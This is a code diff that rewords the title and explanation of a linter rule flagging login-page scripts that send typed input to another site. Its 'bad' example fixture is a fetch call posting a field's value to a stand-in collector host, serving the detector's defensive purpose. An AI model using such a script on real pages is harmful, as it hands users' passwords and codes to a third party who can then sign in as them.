@@ -23,10 +23,11 @@ ${script}
 export const formExternalRequest: Rule = {
   id: 'form/external-request',
   severity: 'error',
-  title: 'A script that sends what people type to somebody else',
-  reason: `On a page that asks for a username, a password or a code, a script reads what people type and sends something to another
-origin. Whoever has that origin can then sign in as they do. Send nothing, or send it to the service. An administrator can
-allow the origin for scripts. A comment does not suppress this rule. Scripts that hide what they do are not found.`,
+  title: 'A script that sends what people type to another site',
+  reason: `On a page that asks for a username, a password or a code, a script reads what people type and sends something
+to another origin. The owner of that origin can then sign in as these people. Send nothing, or send it to the service.
+An administrator can allow the origin for scripts. A comment does not suppress this rule. The linter does not find
+scripts that hide what they do.`,
   firm: true,
   bad: { [PAGE]: page(`fetch('https://collect.example/seen', { method: 'POST', body: field.value })`) },
   good: {
